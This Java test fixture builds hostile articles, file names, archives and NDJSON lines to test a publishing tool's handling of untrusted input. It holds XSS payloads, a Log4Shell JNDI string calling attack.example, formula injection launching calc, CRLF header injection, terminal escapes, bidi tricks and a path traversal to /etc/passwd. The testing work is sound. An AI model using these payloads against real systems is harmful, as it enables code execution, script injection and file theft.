package org.broadsheet;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.DirectoryStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;

/**
 * Sources in which everything is an attack on whoever reads, lists or exports them. The files below
 * {@code src/test/resources/org/broadsheet/hostile} are attacks on pages, feeds, tables, headers and logs; what no file
 * of a repository can be, such as a name with an escape sequence or a title of a megabyte, is made here. Every article
 * contains the word {@code attack}, and every address the host {@code attack.example}.
 */
public final class HostileArchive {

    /**
     * What must never come from an article to a page, a terminal or a log: controls (less the end of a line), marks of
     * direction, zero-width characters and halves of surrogate pairs.
     */
    public static final Pattern HARMFUL = Pattern
            .compile("[\\p{Cc}&&[^\\n]]|[\\u061C\\u180E\\u200B\\u200E\\u200F\\u2028-\\u202E"
                    + "\\u2060-\\u206F\\uFEFF\\uFFF9-\\uFFFB\\uFFFE\\uFFFF]|\\p{Cs}|[\\x{E0001}\\x{E0061}]");

    /** What somebody may send, as a query or a part of an address. */
    public static final List<String> TEXTS = List.of("<script>alert('attack')</script>",
            "\"><img src=x onerror=alert('attack')>", "' autofocus onfocus='alert(1)' attack='",
            "</title><svg/onload=alert(1)>",
            "javascript:alert('attack')", "attack\r\nSet-Cookie: attack=1\r\n\r\n<b>", "attack\u001b[2J\u009b31m\u0007",
            "\u202Ekcatta", "att\u200Back", "attack ]]> <![CDATA[", "attack\u0000\uFFFE", "attack \uD800",
            "${jndi:ldap://attack.example/a}", "=cmd|' /C calc'!A0 attack",
            "{{constructor.constructor('alert(1)')()}}");

    /** A megabyte, about which the program should do nothing worse than take its time. */
    private static final int ENORMOUS = 1 << 20;
    private static final int LONG = 100 << 10;

    /** Names of files as no file system of another kind would take them. */
    private static final List<String> NAMES = List.of("esc\u001b[31mred.md", "esc\u0007[31mred.md",
            "line\n2026-11-20 ERROR fake.md",
            "bell\u0007\u007f.md", "<img src=x onerror=alert(1)>.md", "\"onclick=alert(1) '.md", "=cmd|calc.md",
            "-attack.md",
            "attack%0d%0aX-Attack: 1.md", "a&b=c#d?e.md", "tab\tseparated,\"quoted\".md");

    /** Names that only an archive can hold on every system. */
    private static final List<String> PACKED_NAMES = List.of("photo\u202Egpj.md", "zero\u200Bwidth.md", "zerowidth.md",
            "csi\u009b31m.md",
            "\u2066isolated\u2069.md", "line\u2028separated.md", "x".repeat(40_000) + ".md", "../../attack.md",
            "a\r\nb.md");

    private HostileArchive() {}

    /**
     * Writes the sources into an empty folder.
     *
     * @return what {@code index} and {@code check} are given, in the form {@code NAME=PATH}
     */
    public static List<String> write(Path folder) throws IOException {
        Path files = Files.createDirectory(folder.resolve("files"));
        try (DirectoryStream<Path> attacks = Files
                .newDirectoryStream(Path.of("src/test/resources/org/broadsheet/hostile"))) {
            for (Path attack : attacks) {
                Files.copy(attack, files.resolve(attack.getFileName()));
            }
        }
        for (String name : NAMES) {
            Files.writeString(files.resolve(name), article("title: attack by name\n"));
        }
        Files.writeString(files.resolve("rejected.md"),
                "---\ntitle: attack\nquality: \"\\x1b[31m\\u202E\\uD800\\n\"\n---\n");
        return List.of("<b>\u001b[31m=" + files, "zip=" + zip(folder.resolve("attack.zip")),
                "tar=" + tar(folder.resolve("attack.tar")), "lines=" + lines(folder.resolve("attack.ndjson")));
    }

    /** Writes a source of articles that are too much of everything. */
    public static String writeEnormous(Path folder) throws IOException {
        Path files = Files.createDirectory(folder.resolve("enormous"));
        enormous().forEach((name, frontMatter) -> write(files.resolve(name + ".md"), article(frontMatter)));
        return files.toString();
    }

    private static String article(String frontMatter) {
        return "---\n" + frontMatter + "---\nattack\n";
    }

    private static Map<String, String> enormous() {
        String words = "attack ".repeat(ENORMOUS / 7);
        String word = "a".repeat(LONG);
        Map<String, String> enormous = new LinkedHashMap<>();
        enormous.put("title-of-words", "title: " + words + "\n");
        enormous.put("title-of-a-word", "title: attack " + "a".repeat(ENORMOUS) + "\n");
        enormous.put("excerpt", "title: attack\nexcerpt: " + words + "\n");
        enormous.put("topics", "title: attack\ntopics: [" + numbered("attack topic ") + "]\n");
        enormous.put("values", "title: attack\nprovider: {name: " + word + ", domain: " + word + "}\ntopics: [" + word
                + "]\ntype: " + word + "\ncategory: " + word + "\n");
        enormous.put("addresses",
                "title: attack\nwebUrl: https://attack.example/" + word + "\nimages: [{url: 'https://attack.example/"
                        + word + "'}]\nrelated: [{title: attack, webUrl: 'https://attack.example/" + word + "'}]\n");
        enormous.put("related", "title: attack\nrelated:\n"
                + IntStream.range(0, 2_000)
                        .mapToObj(i -> "  - title: attack " + i + "\n")
                        .collect(Collectors.joining()));
        enormous.put("numbers",
                "title: attack\nquality: 2147483647\nheat: 2147483647\nimages: [{url: 'https://attack.example/p.png',"
                        + " width: 2147483647, height: 2147483647}]\ndate: 9999-12-31T23:59:59Z\n");
        enormous.put("early", "title: attack\ndate: 0001-01-01\n");
        return enormous;
    }

    private static String numbered(String text) {
        return IntStream.range(0, 10_000).mapToObj(i -> text + i).collect(Collectors.joining(", "));
    }

    private static Path zip(Path file) throws IOException {
        try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(file)) {
            for (String name : PACKED_NAMES) {
                zip.putArchiveEntry(new ZipArchiveEntry(name));
                zip.write(bytes(article("title: attack in a zip\n")));
                zip.closeArchiveEntry();
            }
        }
        return file;
    }

    private static Path tar(Path file) throws IOException {
        try (OutputStream out = Files.newOutputStream(file);
                TarArchiveOutputStream tar = new TarArchiveOutputStream(out, StandardCharsets.UTF_8.name())) {
            tar.setLongFileMode(TarArchiveOutputStream.LONGFILE_POSIX);
            tar.setAddPaxHeadersForNonAsciiNames(true);
            for (String name : PACKED_NAMES) {
                byte[] content = bytes(article("title: attack in a tar\n"));
                TarArchiveEntry entry = new TarArchiveEntry(name);
                entry.setSize(content.length);
                tar.putArchiveEntry(entry);
                tar.write(content);
                tar.closeArchiveEntry();
            }
        }
        return file;
    }

    private static Path lines(Path file) throws IOException {
        return Files.writeString(file, """
                {"path": "\\ud800", "title": "attack by half a character"}
                {"path": "\\ud801", "title": "attack by another"}
                {"id": "esc\\u001b[31m\\u202Egpj", "title": "attack \\u001b[31m\\u202E\\ud83d", "topics": ["\\udc00 attack"]}
                {"webUrl": "javascript:alert('attack')", "title": "attack by its address"}
                {"path": "../../etc/passwd", "title": "attack by its path", "body": "<script>alert('attack')</script>"}
                {"path": "<svg/onload=alert(1)>", "title": "attack", "webUrl": "https://attack.example/\\u0000"}
                """);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static void write(Path file, String text) {
        try {
            Files.writeString(file, text);
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
